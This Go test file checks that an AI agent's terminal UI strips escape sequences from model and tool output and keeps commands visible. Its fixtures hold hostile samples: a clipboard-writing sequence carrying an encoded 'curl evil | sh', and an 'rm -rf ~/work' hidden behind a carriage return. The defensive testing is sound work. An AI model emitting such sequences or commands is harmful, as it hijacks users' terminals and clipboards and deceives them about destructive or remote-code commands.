package tui

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/harness9/harness9/agent"
	"github.com/harness9/harness9/llm"
	"github.com/harness9/harness9/planning"
)

// Sequences that reach the terminal through Bubble Tea's renderer (it
// passes DCS, APC, PM and SOS strings through, and OSC 8 links), or that
// move the renderer's own cursor (a carriage return) so that later text
// covers earlier text, must not come from the model or its tools.
const (
	dcsAnswerback = "\x1bP$qm\x1b\\"                                       // DECRQSS: the terminal types a reply
	dcsTmux       = "\x1bPtmux;\x1b\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a\x1b\\" // tmux passthrough of an OSC 52 clipboard write
	apc           = "\x1b_Gf=100;AAAA\x1b\\"                               // kitty graphics
)

func hostileEvents() []agent.Event {
	call := llm.ToolCall{ID: "b1", Name: "bash", Input: json.RawMessage(`{"command":"rm -rf ~/work\rls -la       "}`)}
	return []agent.Event{
		agent.SessionStarted{SessionID: "0123456789abcdef", Mode: planning.ModeDefault},
		agent.TextDelta{Text: "Sure." + dcsAnswerback + dcsTmux},
		agent.Text{Text: "Sure." + dcsAnswerback + dcsTmux},
		agent.ToolCall{ID: call.ID, Name: call.Name, Input: call.Input},
		agent.ToolResult{ID: "b1", Name: "bash", Output: "out" + apc + dcsTmux, IsError: true},
		agent.Todos{Items: []planning.TodoItem{{ID: "1", Content: "step" + dcsTmux, Status: planning.TodoPending}}},
		agent.Error{Message: "boom" + dcsAnswerback},
		agent.Done{Status: agent.RunCompleted},
	}
}

// rawControls lists the string sequences and carriage returns in a view.
func rawControls(view string) []string {
	var found []string
	for name, seq := range map[string]string{"DCS": "\x1bP", "APC": "\x1b_", "PM": "\x1b^", "SOS": "\x1bX", "OSC 52": "\x1b]52", "CR": "\r"} {
		if strings.Contains(view, seq) {
			found = append(found, name)
		}
	}
	return found
}

func TestTranscriptPassesNoControlSequences(t *testing.T) {
	f := newFake()
	f.streams["run"] = hostileEvents()
	h := newHarness(t, testOptions(f), 120, 40)
	h.typeText("go")
	h.key("enter")
	h.waitIdle()
	view := h.m.View().Content
	if bad := rawControls(view); bad != nil {
		t.Errorf("the transcript carries %v to the terminal:\n%q", bad, view)
	}
	if !strings.Contains(normalise(view), "rm -rf ~/work") {
		t.Errorf("the bash command is hidden:\n%s", normalise(view))
	}
}

func TestPermissionDialogShowsTheCallAsWritten(t *testing.T) {
	call := llm.ToolCall{ID: "b1", Name: "bash", Input: json.RawMessage(`{"command":"rm -rf ~/work\rls -la       "}`)}
	d := newPermissionDialog(&agent.ApprovalRequest{Call: call, Preview: "$ rm -rf ~/work\rls -la        " + dcsTmux,
		Why: "asks" + dcsAnswerback, Rules: []string{"bash(rm -rf ~/work\rls:*)" + dcsTmux}})
	view := d.render(100, 30, theme{})
	if bad := rawControls(view); bad != nil {
		t.Errorf("the dialog carries %v:\n%q", bad, view)
	}
	if !strings.Contains(normalise(view), "rm -rf ~/work") {
		t.Errorf("the command asked about is hidden:\n%s", normalise(view))
	}
}

// The undo dialog lists file names the model chose.
func TestChoiceDialogShowsNamesAsWritten(t *testing.T) {
	d := &choiceDialog{title: "Rewind", body: []string{"files: " + dcsTmux},
		options: []string{"turn 1: go — safe.txt\r\x1b[2Kevil" + apc}}
	view := d.view(dialogView{width: 100, room: 30})
	if bad := rawControls(view); bad != nil {
		t.Errorf("the dialog carries %v:\n%q", bad, view)
	}
}

// What quitting writes to the terminal after the program (the live area's
// blocks) is cleaned as the live area was: a hostile answer cut off
// mid-stream, a call still running carry no control sequence.
func TestQuitWritesNoControlSequences(t *testing.T) {
	evs := hostileEvents()
	for _, c := range []struct {
		name   string
		stream []agent.Event
		shown  string
	}{
		{"an answer cut off", []agent.Event{evs[1]}, "Sure."},
		{"a call running", []agent.Event{evs[1], evs[3]}, "rm -rf ~/work"},
	} {
		f := newFake()
		f.block = true
		f.streams["run"] = c.stream
		h, _ := inlineHarness(t, f, 120, 40)
		h.typeText("go")
		h.key("enter")
		h.m.quit()
		out := h.m.unsent()
		if bad := rawControls(out); bad != nil {
			t.Errorf("%s: quitting writes %v to the terminal:\n%q", c.name, bad, out)
		}
		if s := normalise(out); !strings.Contains(s, c.shown) {
			t.Errorf("%s: %q is not written after quitting:\n%s", c.name, c.shown, s)
		}
	}
}
